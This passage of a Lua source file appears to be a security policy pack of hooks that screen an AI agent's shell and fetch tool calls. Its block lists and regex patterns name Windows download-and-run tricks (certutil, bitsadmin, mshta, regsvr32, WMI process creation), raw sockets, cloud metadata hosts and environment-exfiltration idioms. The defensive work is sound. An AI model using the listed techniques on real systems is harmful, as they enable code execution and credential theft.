    -- a program whose name is computed may be any of the above
    for _, a in ipairs(c.args) do
      local h = host_of(a.text, false)
      if h then
        local r = judge_host(h)
        if r then return r end
      end
    end
    return nil
  end
  if FETCHERS[n] then
    local f = fetcher(c)
    local r = no_env_no_secret(c, f.files)
    if r then return r end
    for _, w in ipairs(f.urls) do
      local h, port = split_url(w.text, w.unknown or looks_like_host(w.text))
      if w.whole then h = "" end
      if computed(w) and h then
        return deny("computed-url", "a URL holding a command's output or piped data (" .. p(w.text) .. ")",
          "write the URL out in full; never put file contents in a URL")
      end
      if h then
        r = judge_host(h)
        if r then return r end
        if f.upload then
          r = judge_upload(h, f.upload)
          if r then return r end
        end
        local ep = deleting_endpoint(w, f)
        if ep then
          return deny("delete", "a " .. ep .. " request to an endpoint that deletes or closes (" .. p(w.text) .. ")",
            "ask the user to delete it, or do it with the service's own tool and a narrow target")
        end
        local gql = graphql_delete(f.bodies)
        if gql then
          return deny("delete", "a GraphQL mutation that deletes (" .. p(gql) .. ") sent to " .. p(w.text),
            "ask the user to delete it, or do it with the service's own tool and a narrow target")
        end
        local am = SETTINGS.cluster_admin ~= "allow" and admin_endpoint(w, f)
        if am then
          local why = "a " .. am .. " request to a data store's or cluster's admin endpoint (" .. p(w.text) ..
            "), which changes the whole cluster"
          return as_set(SETTINGS.cluster_admin, "cluster-admin", why,
            "read it with GET first, and ask the user to change the cluster's settings")
        end
        if f.method == "DELETE" and (h == "" or not host_in(h, SETTINGS.upload_hosts) or (port and DATA_PORTS[port])) then
          return deny("delete", "a DELETE request to " .. (h == "" and "a host the line does not show" or p(h)) ..
            (port and (":" .. port) or "") .. (port and DATA_PORTS[port] and ", a data store's or cluster's API" or ""),
            "ask the user to delete it, or do it with the service's own tool and a narrow target")
        end
      end
    end
    return nil
  end
  if SOCKETS[n] then
    local r = no_env_no_secret(c, NO_DATA)
    if r then return r end
    local h, probe, fed = socket(c)
    if not h then return nil end
    r = judge_host(h)
    if r then return r end
    if fed then return judge_upload(h, fed) end
    if not probe and (h == "" or not host_in(h, SETTINGS.upload_hosts)) then
      return deny("socket", "a raw connection (" .. n .. ") to " .. (h == "" and "a host the line does not show" or p(h)),
        "use curl or the service's own client; nc -z only probes a port")
    end
    return nil
  end
  if REMOTES[n] then
    local hosts, upload, sources = remote(c)
    local r = no_env_no_secret(c, sources)
    if r then return r end
    for _, h in ipairs(hosts) do
      r = judge_host(h)
      if r then return r end
      if upload then
        r = judge_upload(h, upload)
        if r then return r end
      end
    end
    return nil
  end
  if n == "openssl" then
    -- openssl s_client: a TLS connection that carries its input to the host
    -- (a TLS check fed nothing, echo or < /dev/null, passes)
    local h, fed = tls_client(c)
    if not h then return nil end
    local r = no_env_no_secret(c, NO_DATA)
    if r then return r end
    r = judge_host(h)
    if r then return r end
    if fed then return judge_upload(h, fed) end
    return nil
  end
  if PROBES[n] then
    if zone_transfer(c) then
      return deny("zone-transfer", "a DNS zone transfer (" .. n .. " axfr), which lists every name of a domain",
        "look up the names you need one by one")
    end
    for _, a in ipairs(c.args) do
      if computed(a) then
        return deny("computed-url", "a name holding a command's output or piped data (" .. p(a.text) .. ")",
          "look up a name written out in full")
      end
      if a.text:sub(1, 1) ~= "-" and not a.unknown and kind(a.text) == "metadata" then
        return judge_host(a.text)
      end
    end
  end
  return nil
end

-- WIN_REMOTE are Windows' own programs that fetch code or files, or run
-- script from a URL or written inline, the way attack catalogues list
-- them (LOLBAS): remote_code reads them.
local WIN_REMOTE = { mshta = true, rundll32 = true, regsvr32 = true, certutil = true, bitsadmin = true,
  msiexec = true, hh = true, wmic = true, cmstp = true, esentutl = true, expand = true,
  ["invoke-wmimethod"] = true, ["invoke-cimmethod"] = true }
-- a URL or a network share (\\host\share, or //host/share as read)
local REMOTE_WORD = "(?i)^[\"']?(?:https?|ftps?)://|^[\"']?(?:\\\\{1,2}|//)[\\w.-]+[\\\\/]|[=:](?:https?|ftps?)://|" ..
  "/i:(?:https?|ftps?|\\\\|//)"
-- script written inline for rundll32 or mshta to run
local INLINE_SCRIPT = "(?i)(?:java|vb)script:|mshtml[^a-z]*runhtmlapplication|about:<script|vbscript\\b"

-- remote_code returns a sentence saying how a Windows program n, given
-- the lower-cased texts of its words, fetches or runs code from the
-- network or written inline, or nil: certutil -urlcache/-verifyctl/-URL,
-- bitsadmin /transfer|/addfile|/download|/setnotifycmdline, mshta or
-- rundll32 of a URL or of javascript:/vbscript:, regsvr32 /i:URL
-- (scrobj.dll), msiexec, hh or cmstp of a URL, wmic /format:URL (an XSL
-- script), esentutl or expand from a share; wmic process call create and
-- Invoke-WmiMethod/Invoke-CimMethod Win32_Process Create.
local function remote_code(n, ts)
  local url, inline = false, false
  for _, t in ipairs(ts) do
    if not url and re.match(REMOTE_WORD, t) then url = true end
    if not inline and re.match(INLINE_SCRIPT, t) then inline = true end
  end
  if n == "certutil" then
    for _, t in ipairs(ts) do
      if t == "-urlcache" or t == "/urlcache" or t == "-verifyctl" or t == "/verifyctl" or t == "-url" then
        return "certutil " .. t .. " (a download through the certificate tool)"
      end
    end
    return url and "certutil of a URL" or nil
  elseif n == "bitsadmin" then
    for _, t in ipairs(ts) do
      if t == "/transfer" or t == "/addfile" or t == "/download" or t == "/setnotifycmdline" or t == "/create" then
        return "bitsadmin " .. t .. " (a background download or a job that runs a program)"
      end
    end
    return nil
  elseif n == "wmic" or n == "invoke-wmimethod" or n == "invoke-cimmethod" then
    -- a program started through WMI, here or on another machine (/node:,
    -- -ComputerName): out of the caller's process tree, as the catalogues'
    -- lateral movement and defense evasion do
    local j = table.concat(ts, " ")
    if j:find("process", 1, true) and j:find("create", 1, true) then
      return n .. " starting a program through WMI (Win32_Process Create)"
    end
  elseif n == "mshta" or n == "rundll32" then
    if inline then return n .. " running script written inline (javascript:, vbscript:)" end
    return url and (n .. " of a URL") or nil
  end
  return url and (n .. " of a URL or a network share (" .. (n == "regsvr32" and "a scriptlet run" or "code fetched") .. ")") or nil
end

-- SERVERS are the static file servers serve reads, by program: how each
-- names the folder it serves (the working folder when it names none).
-- python -m http.server (SimpleHTTPServer, uploadserver) and php -S,
-- ruby -run -e httpd and busybox httpd are read in serve_root.
local SERVERS = { ["http-server"] = "operand", serve = "operand", ["live-server"] = "operand",
  darkhttpd = "operand", updog = "-d", caddy = "--root", webfsd = "-r" }
-- RUNNERS run a package's program: npx http-server ~, pnpm dlx serve /.
local RUNNERS = { npx = true, bunx = true, pnpx = true }

-- served returns the folder a server's words name from index from: the
-- value of one of opts (-d X, --directory X, --directory=X, -dX), else
-- its first operand (a word that neither is an option nor is the value
-- of one of skip, the options that take one), else nil.
local function served(ws, from, opts, skip)
  local operand
  local k = from
  while k <= #ws do
    local t = ws[k].text
    for _, o in ipairs(opts) do
      if t == o then return ws[k + 1] end
      if o:sub(1, 2) == "--" and t:sub(1, #o + 1) == o .. "=" then
        return { text = t:sub(#o + 2), unknown = ws[k].unknown }
      end
      if #o == 2 and o:sub(2, 2) ~= "-" and t:sub(1, 2) == o and #t > 2 then
        return { text = t:sub(3), unknown = ws[k].unknown }
      end
    end
    if skip and skip[t] then
      k = k + 1
    elseif t:sub(1, 1) ~= "-" and not operand then
      operand = ws[k]
    end
    k = k + 1
  end
  return operand
end

-- PORT_OPTS are the options of the servers read by operand that take a
-- value (a port, an address, a config file).
local PORT_OPTS = { ["-p"] = true, ["--port"] = true, ["-a"] = true, ["--address"] = true, ["-l"] = true,
  ["--listen"] = true, ["-c"] = true, ["--config"] = true, ["-b"] = true, ["--bind-address"] = true }

-- serve_root returns the word naming the folder a command serves over
-- HTTP ({ text = "." } for the working folder) and the program's name,
-- or nil when it serves none.
local function serve_root(c)
  local n, ws = c.name or "", c.args
  local from = 1
  if RUNNERS[n] or ((n == "pnpm" or n == "yarn") and ws[1] and ws[1].text == "dlx") then
    from = (n == "pnpm" or n == "yarn") and 2 or 1
    while ws[from] and ws[from].text:sub(1, 1) == "-" do from = from + 1 end
    if not ws[from] then return nil end
    n = ws[from].text:gsub("^(.+)@[^/]*$", "%1"):lower()
    from = from + 1
  end
  local HERE = { text = "." }
  if n:find("^python[%d.]*$") then
    for k, a in ipairs(ws) do
      local m = a.text == "-m" and ws[k + 1] and ws[k + 1].text or a.text:match("^%-m(.+)$")
      if m == "http.server" or m == "SimpleHTTPServer" or m == "uploadserver" then
        local v = served(ws, a.text == "-m" and k + 2 or k + 1, { "--directory", "-d" }, { ["-b"] = true, ["--bind"] = true })
        if v and v.text:find("^%d+$") then v = nil end -- the port
        return v or HERE, "python -m " .. m
      end
      if a.text:sub(1, 1) ~= "-" then return nil end
    end
    return nil
  elseif n == "php" then
    local s = false
    for _, a in ipairs(ws) do
      if a.text == "-S" or a.text:find("^%-S.") then s = true end
    end
    if not s then return nil end
    local v = served(ws, 1, { "-t" }, { ["-S"] = true, ["-c"] = true, ["-d"] = true })
    if v and not (v.text:find("[/~]") or v.text == ".") then v = nil end -- php -S host:port router.php
    return v or HERE, "php -S"
  elseif n == "ruby" then
    local httpd
    for k, a in ipairs(ws) do
      if (a.text == "-e" and ws[k + 1] and ws[k + 1].text == "httpd") or a.text == "-ehttpd" then
        httpd = a.text == "-e" and k + 2 or k + 1
      end
    end
    if not httpd then return nil end
    return served(ws, httpd, {}, PORT_OPTS) or HERE, "ruby -run -e httpd"
  elseif n == "httpd" and c.wrappers and c.wrappers[#c.wrappers] == "busybox" then
    -- busybox httpd (the reader runs busybox's applet)
    local v
    for k, a in ipairs(ws) do
      if a.text == "-h" then v = ws[k + 1] end
    end
    return v or HERE, "busybox httpd"
  elseif SERVERS[n] then
    if n == "caddy" and not (ws[from] and ws[from].text == "file-server") then return nil end
    local how = SERVERS[n]
    if how == "operand" then return served(ws, from, {}, PORT_OPTS) or HERE, n end
    local v
    for k, a in ipairs(ws) do
      if a.text == how then v = ws[k + 1] elseif a.text:sub(1, #how + 1) == how .. "=" then
        v = { text = a.text:sub(#how + 2), unknown = a.unknown }
      end
    end
    return v or HERE, n
  end
  return nil
end

-- serve answers a static file server whose folder is the whole disk, the
-- home folder or one above it, a system folder, or a folder of keys and
-- credentials [rule serve]: whoever reaches its port (any process here,
-- a web page through DNS rebinding, the network when it listens on all
-- addresses, as python -m http.server does) reads every file in it. A
-- folder the line does not show passes, as the project and its folders.
local SYSTEM_TOPS = { "/etc", "/root", "/var", "/proc", "/sys", "/boot", "/usr" }
local function serve(c, cwd)
  local w, how = serve_root(c)
  if not w or w.unknown then return nil end
  local t = w.text
  local d = c.dir
  if d and d ~= "." and not (t:sub(1, 1) == "/" or t == "~" or t:sub(1, 2) == "~/") then
    if d:find("%z") then return nil end
    t = d .. "/" .. t
  end
  local abs = paths.resolve(t, cwd)
  if not abs then return nil end
  local home = paths.home(cwd) or "~"
  local what
  if abs == "/" then
    what = "the whole disk (/)"
  elseif abs == "~" or paths.inside(home, abs) then
    what = "the home folder" .. (abs == home and "" or " and what holds it") .. " (" .. p(abs) .. ")"
  elseif SECRETS.file({ text = abs, pat = abs }) then
    what = "a folder of keys or credentials (" .. p(abs) .. ")"
  else
    for _, top in ipairs(SYSTEM_TOPS) do
      if paths.inside(abs, top) then what = "a system folder (" .. p(abs) .. ")"; break end
    end
  end
  if not what then return nil end
  return deny("serve", "serving " .. what .. " over HTTP (" .. p(how) .. "): whoever reaches the port reads " ..
    "every file in it, keys included",
    "serve the project's folder or its build output (python -m http.server -d dist)")
end

-- inline_metadata returns the cloud metadata host an interpreter's
-- one-liner (python -c, node -e, ruby -e, perl -e, php -r, …) names, in
-- a URL or as a quoted host ('169.254.169.254', "metadata.google.internal"),
-- or nil [rule metadata]: urlopen, fetch or a socket reads the machine's
-- credentials as curl would. A word "metadata" alone (a dict key) is no host.
local function inline_metadata(c)
  local sc = c.script
  if not (c.inline and sc and sc.text) then return nil end
  local text = sc.text
  if #text > 65536 then text = text:sub(1, 65536) end
  for url in text:gmatch("[%a][%w+.-]*://[^%s'\"`<>]+") do
    local h = host_of(url, false)
    if h and h ~= "" and kind(h) == "metadata" then return h end
  end
  for q in text:gmatch("['\"`]([%w.:%[%]-]+)['\"`]") do
    local h = q:gsub("^%[", ""):gsub("%]$", ""):lower()
    if (h:find(".", 1, true) or h:find(":", 1, true)) and kind(h) == "metadata" then return h end
  end
  return nil
end

-- MAILERS send what they read by mail: the environment or a secrets file
-- piped or redirected into one leaves the machine as a fetcher's upload
-- does [rules environment, secret-file]; a mail written out passes.
local MAILERS = { mail = true, mailx = true, ["s-nail"] = true, sendmail = true, mutt = true, msmtp = true,
  neomutt = true, swaks = true }

-- WHOLE_ENV matches a one-liner's reading of the whole environment
-- (os.environ, process.env, ENV.to_h, %ENV, getenv(), $_ENV) where one
-- variable by name (os.environ['HOME'], process.env.PORT, getenv('X'))
-- does not match; SENDS matches its sending something over the network.
local WHOLE_ENV = [[os\.environ(?:\s*[^\s.\[]|\s*$|\.(?:items|copy|keys|values)\b)|]] ..
  [[process\.env(?:\s*[^\s.\[\w]|\s*$)|\bENV\.(?:to_h|to_a|inspect|to_s|each|map)\b|%ENV\b|]] ..
  [[getenv\(\s*\)|\$_ENV\b|System\.getenv\(\s*\)]]
local SENDS = [[(?i)https?://|urlopen|requests\.(?:post|put|get|patch)|\bfetch\(|https?\.request|]] ..
  [[\.request\(|socket|net::http|lwp|curl_exec|file_get_contents\(\s*['"]https?|smtplib]]

-- inline_environment reports whether an interpreter's one-liner sends
-- the whole environment over the network [rule environment].
local function inline_environment(c)
  local sc = c.script
  if not (c.inline and sc and sc.text) then return false end
  local text = sc.text
  if #text > 65536 then text = text:sub(1, 65536) end
  return re.match(WHOLE_ENV, text) and re.match(SENDS, text)
end

-- The programs the rules look at by name, for shell.quick: a plain line
-- (one simple command, no pipes, redirections or expansions) running none
-- of them sends nothing anywhere and is allowed without parsing.
local PROGRAMS = {}
for _, set in ipairs({ FETCHERS, SOCKETS, REMOTES, PROBES, SAVERS, WIN_REMOTE, pwsh.CMD, SERVERS,
  MAILERS, { busybox = true, pnpm = true, yarn = true, openssl = true } }) do
  for name in pairs(set) do PROGRAMS[#PROGRAMS + 1] = re.quote(name) end
end
table.sort(PROGRAMS)
local _, QUICK_MAX, QUICK_STOP = shell.quick({ programs = { PROGRAMS } })

-- windows_remote answers a Windows program of WIN_REMOTE, or those cmd /c
-- runs (remote-code): nil when none fetches or runs remote code.
local function windows_remote(c)
  local list = { c }
  if pwsh.CMD[c.name or ""] then list = pwsh.cmd(c.args) end
  for _, x in ipairs(list) do
    local n = x.name or ""
    if WIN_REMOTE[n] then
      local ts = {}
      for k, a in ipairs(x.args) do ts[k] = a.text:lower() end
      local how = remote_code(n, ts)
      if how then
        return deny("remote-code", "a Windows program fetching code or running it out of sight (from the network, " ..
          "written inline or through WMI: " ..
          p(how) .. ")", "download with curl or Invoke-WebRequest to a file, show it to the user, and run nothing " ..
          "fetched until they agree")
      end
    end
  end
  return nil
end

-- download_run answers a download the line then runs (download-run).
local function download_run(f, run, path)
  local why = "running a download as a script (" .. p(f.word and f.word.text or f.name) .. " saves " .. p(path) ..
    ", then " .. p(run.word and run.word.text or run.name) .. " runs it)"
  return as_set(SETTINGS.download_run, "download-run", why,
    "download the script to a file, show it to the user, and run it only once they agree")
end

hook.register("PreToolUse", "@shell", function(input)
  -- The command line (shell.command's reading, made here: a hook that
  -- hands no table of its input to another function keeps the input's
  -- tables for the next call, and the usual call allocates nothing).
  local args = input.toolInput
  local line = type(args) == "table" and (args.command or args.cmd) or nil
  if type(line) == "table" then
    local parts = {}
    for _, a in ipairs(line) do parts[#parts + 1] = shell.quote(tostring(a)) end
    line = table.concat(parts, " ")
  elseif type(line) ~= "string" then
    return nil
  end
  if #line < QUICK_MAX and not re.match(QUICK_STOP, line) then return nil end
  local cmds, err = shell.parse(line)
  local saves = false
  for _, c in ipairs(cmds) do
    local n = c.name or ""
    if WIN_REMOTE[n] or pwsh.CMD[n] then
      -- certutil -urlcache -f URL F, cmd /c "mshta http://…"
      local r = windows_remote(c)
      if r then return r end
    end
    if network_cmd(c) or (c.name == nil and c.word and c.word.whole) then
      local r = judge(c)
      if r then return r end
    end
    if c.inline then
      local h = inline_metadata(c)
      if h then return judge_host(h) end
      if inline_environment(c) then
        return deny("environment", "sending the environment over the network from a one-liner (" ..
          p(c.word and c.word.text or n) .. ")", "never send environment variables; they hold tokens")
      end
    end
    if MAILERS[n] then
      local r = no_env_no_secret(c, NO_DATA)
      if r then return r end
    end
    saves = saves or SAVERS[c.name or ""] == true
    local r = serve(c, input.cwd)
    if r then return r end
  end
  if SETTINGS.download_run ~= "allow" then
    local f, run, path
    if saves then f, run, path = fetchers.runs_saved(cmds) end
    if not f and (pwsh.tool(input.toolName) or (saves and pwsh.looks(line))) then
      f, run, path = fetchers.pwsh_runs_saved((pwsh.parse(line)))
    end
    if f then return download_run(f, run, path) end
  end
  if err then
    return deny("unreadable", "a command that could not be checked (" .. err .. ")", "split it into shorter commands")
  end
end, { name = "pack-network-shell", stage = "validate", timeout_ms = 1000, failure_policy = "closed", policy = true })

hook.register("PreToolUse", "@network", function(input)
  local args = input.toolInput
  local url = type(args) == "table" and (args.url or args.uri) or nil
  if type(url) ~= "string" then return nil end
  local h = host_of(url, true)
  if not h or h == "" then
    return deny("unreadable-host", "a fetch of " .. p(url) .. ", whose host cannot be read", "give a full https:// URL")
  end
  return judge_host(h)
end, { name = "pack-network-fetch", stage = "validate", failure_policy = "closed", policy = true })
